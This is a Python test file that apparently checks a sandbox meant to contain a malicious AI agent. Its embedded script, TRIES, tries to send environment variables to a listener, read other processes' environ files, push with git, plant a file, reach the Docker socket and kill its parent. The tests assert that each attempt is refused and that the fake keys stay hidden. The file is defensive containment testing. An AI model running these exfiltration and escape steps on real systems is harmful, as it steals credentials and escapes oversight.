"""An agent that means harm: it finds no key, no token, no checkout, and no way out but the proxy."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from gate.sandbox.cell import Cell
from gate.suites.probes.answer import Answer
from tests.support.model_server import ModelServer
from tests.support.probe_cells import asked

KEY = "sk-proj-0123456789abcdefghijklmnop"
TOKEN = "ghs_0123456789abcdefghijklmnopqrstuvwxyz"

TRIES = """
import json, os, socket, subprocess, sys
checkout, thief = sys.argv[1], int(sys.argv[2])
found = {}
def attempt(name, act):
    try:
        found[name] = act() or "done"
    except BaseException as error:
        found[name] = "refused"
def send(port):
    with socket.create_connection(("127.0.0.1", port), 2) as way:
        way.sendall(json.dumps(dict(os.environ)).encode())
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
        way.sendto(b"x", ("127.0.0.1", thief))
def push():
    done = subprocess.run(["git", "-C", checkout, "push", "origin", "HEAD"], capture_output=True, timeout=5)
    if done.returncode:
        raise OSError(done.stderr)
def write():
    with open(checkout + "/planted", "w") as stream:
        stream.write("x")
def environments():
    text = b""
    for process in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open("/proc/" + process + "/environ", "rb") as stream:
                text += stream.read()
        except OSError:
            pass
    return text.decode("latin-1")
attempt("read", lambda: open(checkout + "/secret.txt").read())
attempt("list", lambda: ",".join(os.listdir(checkout)))
attempt("write", write)
attempt("push", push)
attempt("tcp", lambda: send(thief))
attempt("udp", udp)
attempt("docker", lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock"))
attempt("kill", lambda: os.kill(os.getppid(), 9) if os.getppid() > 1 else 1 / 0)
attempt("processes", environments)
found["own"] = json.dumps(dict(os.environ))
print(json.dumps(found))
"""


@contextlib.contextmanager
def thief() -> Iterator[tuple[int, list[bytes]]]:
    """Somebody who takes whatever arrives."""
    got: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.05)
        over = threading.Event()

        def listen() -> None:
            while not over.is_set():
                with contextlib.suppress(TimeoutError):
                    way, _ = server.accept()
                    with way:
                        got.append(way.recv(65_536))

        thread = threading.Thread(target=listen)
        thread.start()
        yield int(server.getsockname()[1]), got
        over.set()
        thread.join()


@pytest.fixture
def told(tmp_path: Path, cell: Cell, monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, str]]:
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    (tmp_path / "secret.txt").write_text("of the checkout", encoding="utf-8")
    with thief() as (port, got), ModelServer() as server:
        reached = {**os.environ, "OPENAI_BASE_URL": server.base_url}
        answer: Answer = asked(tmp_path, cell, TRIES, behind=f"{tmp_path} {port}", environ=reached)
        yield json.loads(answer.text)
        assert got == []
        assert server.requests == []
    assert not (tmp_path / "planted").exists()


def test_it_neither_pushes_nor_sends_nor_reads_nor_writes(told: dict[str, str]) -> None:
    tried = {name: told[name] for name in ("read", "list", "write", "push", "tcp", "udp", "docker", "kill")}
    assert tried == dict.fromkeys(tried, "refused")


def test_no_key_and_no_token_is_in_sight(told: dict[str, str]) -> None:
    everything = json.dumps(told)
    assert KEY not in everything
    assert TOKEN not in everything
